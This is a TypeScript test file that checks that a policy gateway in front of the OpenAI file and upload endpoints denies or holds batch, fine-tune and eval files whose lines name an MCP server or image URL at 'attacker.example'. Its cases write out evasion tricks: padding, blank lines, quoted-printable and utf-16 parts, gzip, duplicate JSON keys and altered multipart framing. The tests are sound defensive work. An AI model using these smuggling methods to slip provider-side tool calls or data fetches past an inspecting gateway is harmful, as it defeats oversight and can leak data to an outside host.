import { describe, expect, it } from 'vitest'
import { expectRefused, JSON_BODY, start } from './pipeline-world.ts'
import type { TestExchangeInput } from './test-exchange.ts'
import type { Rules } from './test-world.ts'

const RULES: Rules = {
  connectors: [{ type: 'llm_a', name: 'openai' }],
  permissions: [['llm_a.*', 'allow']],
}
const FORM = ['Content-Type', 'multipart/form-data; boundary=xyz']

function form(file: string, purpose = 'batch'): string {
  const part = (disposition: string, content: string) =>
    `--xyz\r\nContent-Disposition: form-data; ${disposition}\r\n\r\n${content}\r\n`
  return `${part('name="file"; filename="a.jsonl"', file)}${part('name="purpose"', purpose)}--xyz--\r\n`
}
const line = (body: object) =>
  JSON.stringify({ custom_id: 'a', method: 'POST', url: '/v1/responses', body: { model: 'm', ...body } })
const server = { type: 'mcp', server_label: 'x', server_url: 'https://attacker.example/mcp' }
const LOOT = line({ tools: [server] })

const upload = (body: string | Buffer, headers: readonly string[] = FORM): TestExchangeInput => ({
  ...{ method: 'POST', host: 'api.openai.com', target: '/v1/files', headers, body },
})

describe('the upload of a file for a batch', () => {
  it.each([
    ['in the last of many lines', form(`${`${line({ input: 'hi' })}\n`.repeat(5_000)}${LOOT}`)],
    ['behind blank lines', form(`\r\n\n  \n${LOOT}\r\n`)],
    ['behind 8 MiB of text in one line', form(`${line({ input: 'x'.repeat(8 * 1024 * 1024) })}\n${LOOT}\n`)],
    ['in a form without a purpose', form(LOOT).replace('purpose', 'intent')],
    ['among messages for training', form(LOOT, 'fine-tune')],
    ['in the data of an evaluation', form(LOOT, 'evals')],
    ['under a second purpose', form(LOOT, 'vision').replace('--xyz--\r\n', form('', 'batch'))],
  ])('is denied for a server that a request in it names: %s', async (_where, body) => {
    const world = await start(RULES)
    const { reply } = await world.send(upload(body))
    expect(reply.status).toBe(403)
    expect(JSON.stringify(reply.json())).toContain('attacker.example')
    expect(world.records).toMatchObject([{ actions: ['llm_a.file.upload', 'llm_a.provider_tool.mcp'] }])
    expectRefused(world)
  })

  it.each([
    ['lines that are no JSON', form('{"body":'), FORM],
    ['another format than a form', LOOT, ['Content-Type', 'application/octet-stream']],
    ['a form that readers part differently', form(LOOT).replaceAll('\r\n', '\n'), FORM],
    ['a content encoding', form(LOOT), [...FORM, 'Content-Encoding', 'gzip']],
    [
      'a transfer encoding of the file, which some servers decode',
      form('{"=74ools": []}').replace(
        'a.jsonl"\r\n',
        'a.jsonl"\r\nContent-Transfer-Encoding:\tquoted-printable\r\n',
      ),
      FORM,
    ],
    [
      'a transfer encoding of the purpose',
      form('x', 'b=61tch').replace(
        '"purpose"\r\n',
        '"purpose"\r\nContent-Transfer-Encoding: quoted-printable\r\n',
      ),
      FORM,
    ],
    [
      'another charset',
      form('x', 'b').replace('"purpose"\r\n', '"purpose"\r\nContent-Type: text/plain; charset\t= utf-16\r\n'),
      FORM,
    ],
    ['more than 32 MiB', Buffer.alloc(32 * 1024 * 1024 + 1), FORM],
  ])('is held where it cannot be read: %s', async (_what, body, headers) => {
    const world = await start(RULES)
    const { reply } = await world.send(upload(body, headers))
    // What is longer than a held body may be is refused.
    expect(reply.status).toBe(body.length > 8 * 1024 * 1024 ? 413 : 403)
    expect(world.records).toMatchObject([{ actions: ['llm_a.file.upload', 'llm_a.provider_tool.unknown'] }])
    expectRefused(world)
    expect(world.holds).toHaveLength(reply.status === 413 ? 0 : 1)
  })

  it.each(['binary', '8bit'])('is read where the encoding of its parts is %s', async (encoding) => {
    const world = await start(RULES)
    const plain = form(`${line({ input: 'hi' })}\n`)
    const headers = `Content-Type: application/jsonl; charset="utf-8"\r\nContent-Transfer-Encoding: ${encoding}\r\n`
    const { reply } = await world.send(upload(plain.replace('a.jsonl"\r\n', `a.jsonl"\r\n${headers}`)))
    expect(reply.status).toBe(200)
    expect(world.records).toMatchObject([{ decision: 'ALLOW', action_type: 'llm_a.file.upload' }])
  })

  it('is named by the requests in it after its approval, too', async () => {
    const world = await start({
      connectors: [{ type: 'llm_a', name: 'openai', providerTools: { allow: ['provider_tool.web_search'] } }],
      permissions: [...(RULES.permissions ?? []), ['llm_a.provider_tool.*', 'require_approval']],
    })
    world.state.onHold = async () => ({ kind: 'approved', approvalId: 'apv_9', by: 'ann@example.com' })
    const { reply } = await world.send(upload(form(`${line({ tools: [{ type: 'web_search' }] })}\n`)))
    expect(world.holds).toHaveLength(1)
    expect(world.records).toMatchObject([
      { actions: ['llm_a.file.upload', 'llm_a.provider_tool.web_search'], note: 'approved' },
    ])
    expect(reply.status).toBe(200)
  })

  it('is refused where a line can be read in two ways', async () => {
    const world = await start(RULES)
    const body = form('{"body":{"tools":[],"tools":[{"type":"mcp"}]}}')
    expect((await world.send(upload(body))).reply.status).toBe(400)
    expectRefused(world)
  })

  it.each([
    ['requests that name nothing', form(`${line({ input: 'hi' })}\n`)],
    ['another purpose', form('any bytes', 'assistants')],
  ])('passes with %s, byte for byte', async (_what, body) => {
    const world = await start(RULES)
    expect((await world.send(upload(body))).reply.status).toBe(200)
    expect(world.upstream.seen[0]?.body.toString()).toBe(body)
    expect(world.records).toMatchObject([{ decision: 'ALLOW', action_type: 'llm_a.file.upload' }])
  })

  it('is denied for an image by URL among messages for training, which the provider fetches', async () => {
    const world = await start(RULES)
    const image = { type: 'image_url', image_url: { url: 'https://attacker.example/?d=1' } }
    const body = form(JSON.stringify({ messages: [{ role: 'user', content: [image] }] }), 'fine-tune')
    expect((await world.send(upload(body))).reply.status).toBe(403)
    expect(world.records).toMatchObject([{ actions: ['llm_a.file.upload', 'llm_a.provider_fetch.url'] }])
    expectRefused(world)
  })

  it.each(['batch', 'fine-tune', 'evals'])(
    'is named in parts, too: what they hold cannot be read (%s)',
    async (purpose) => {
      const world = await start(RULES)
      const body = JSON.stringify({
        purpose,
        filename: 'a.jsonl',
        bytes: 9,
        mime_type: 'application/jsonl',
      })
      const request = { ...upload(body, JSON_BODY), target: '/v1/uploads' }
      expect((await world.send(request)).reply.status).toBe(403)
      expect(world.records).toMatchObject([
        { actions: ['llm_a.upload.create', 'llm_a.provider_tool.unknown'] },
      ])
    },
  )
})
